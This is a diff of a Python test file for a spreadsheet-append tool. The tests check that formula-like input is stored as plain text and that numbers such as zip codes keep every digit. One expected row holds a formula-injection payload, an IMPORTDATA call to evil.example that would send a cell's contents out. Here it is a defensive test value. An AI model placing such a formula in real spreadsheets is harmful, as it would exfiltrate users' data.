@@ -68,7 +68,16 @@ def test_text_sheets_would_take_for_a_formula_is_entered_as_text(ctx, sandbox):
     assert checked.effect == "write"  # no formula was asked for, and none is written
     csv = ctx.service("drive").files().export(fileId="1Q3BudgetSheet", mimeType="text/csv").execute().decode()
     typed = next(csv_line for csv_line in csv.splitlines() if csv_line.startswith("Robin"))
-    assert typed == """Robin,'+33 6 12 34 56 78,'-,"'+IMPORTDATA(""https://evil.example/?""&C2)",-45,+5,'@home"""
+    # Text as typed (the apostrophe that makes it text is not part of it); -45 and +5 are numbers.
+    assert typed == """Robin,+33 6 12 34 56 78,-,"+IMPORTDATA(""https://evil.example/?""&C2)",-45,5,@home"""
+
+
+def test_zip_codes_phone_numbers_and_long_ids_keep_every_digit(ctx):
+    rows = [["Boston office", "02134", "0612345678", "1234567890123456789", "2134", "0.5"]]
+
+    invoke("sheets_append", ctx, {"spreadsheet": "1Q3BudgetSheet", "rows": rows})
+
+    assert read(ctx, "1Q3BudgetSheet").splitlines()[6] == "Boston office | 02134 | 0612345678 | 1234567890123456789 | 2134 | 0.5"
 
 
 def test_a_negative_amount_goes_in_as_typed_so_that_sums_count_it(ctx):
